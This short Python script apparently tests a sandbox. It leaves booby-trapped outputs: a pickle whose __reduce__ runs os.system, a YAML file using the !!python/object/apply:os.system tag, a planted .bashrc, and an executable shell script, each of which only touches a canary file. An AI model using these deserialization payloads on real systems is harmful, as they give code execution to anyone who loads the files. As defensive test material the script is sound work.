# LG-06: leaves results that do something when a careless reader loads them; the argument is a file that must never be made
import os, pickle, sys


class Mine:
    def __reduce__(self):
        return os.system, ("touch " + sys.argv[1],)


pickle.dump(Mine(), open("/outputs/result.pickle", "wb"))
os.write(1, pickle.dumps(Mine()))
open("/outputs/result.yaml", "w").write("!!python/object/apply:os.system ['touch %s']\n" % sys.argv[1])
open("/outputs/.bashrc", "w").write("touch %s\n" % sys.argv[1])
open("/outputs/glovebox.yaml", "w").write("data_dir: %s\n" % sys.argv[1])
open("/outputs/run.sh", "w").write("#!/bin/sh\ntouch %s\n" % sys.argv[1])
os.chmod("/outputs/run.sh", 0o755)
print("\nend")
